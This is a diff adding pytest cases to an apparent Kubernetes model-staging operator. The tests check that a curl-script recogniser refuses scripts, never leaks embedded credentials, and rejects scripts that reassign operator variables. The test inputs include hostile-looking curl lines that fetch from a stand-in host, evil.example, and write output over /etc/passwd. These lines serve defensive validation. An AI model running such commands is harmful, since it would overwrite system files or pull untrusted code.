@@ -13,6 +13,7 @@ import pytest
 from llmkube_stager.operator.recognise import (
     OperatorCommand,
     calls_curl,
+    outline,
     recognise,
     source_mismatch,
     why_not,
@@ -185,3 +186,37 @@ def test_the_images_curl_names_the_host_and_never_a_secret() -> None:
     assert "https://s3.example" in text and "curlimages/curl" in text
     for secret in ("AKIAEXAMPLE", "s3cr3t", "hf_token_value", "user", "pw@", "abc", "9000"):
         assert secret not in text, secret
+
+
+# -- the reviews of #30: what a refusal shows, what a script sets ------------------------------
+
+CANARY = "s3cr3tCanaryValue0123456789abcdef"
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"curl -fsSL 'https://someuser:{CANARY}@evil.example/x.gguf' -o \"$MODEL_PATH\"",
+        f'curl -fsSL -u \'admin:{CANARY}\' "$MODEL_SOURCE" -o "$MODEL_PATH"',
+        f'curl -fsSL --oauth2-bearer={CANARY} "$MODEL_SOURCE" -o "$MODEL_PATH"',
+        f'curl -fsSL -H \'X-Api-Key: {CANARY}\' "$MODEL_SOURCE" -o "$MODEL_PATH"',
+    ],
+)
+def test_a_refusal_never_shows_a_credential_the_script_holds(script: str) -> None:
+    assert recognise(script) is None
+    assert CANARY not in why_not(script) and CANARY not in outline(script)
+    assert outline(script) == "curl"
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'MODEL_SOURCE=https://evil.example/x.gguf; curl -fsSL "$MODEL_SOURCE" -o "$MODEL_PATH"',
+        'export MODEL_PATH=/etc/x; curl -fsSL "$MODEL_SOURCE" -o "$MODEL_PATH"',
+        'url=https://evil.example/x; curl -fsSL "$url" -o "$MODEL_PATH"',
+        'dest=/etc/passwd; curl -fsSL "$MODEL_SOURCE" -o "$dest"',
+    ],
+)
+def test_a_script_that_sets_what_the_operator_gives_is_not_recognised(script: str) -> None:
+    assert recognise(script) is None
+    assert "sets" in why_not(script)
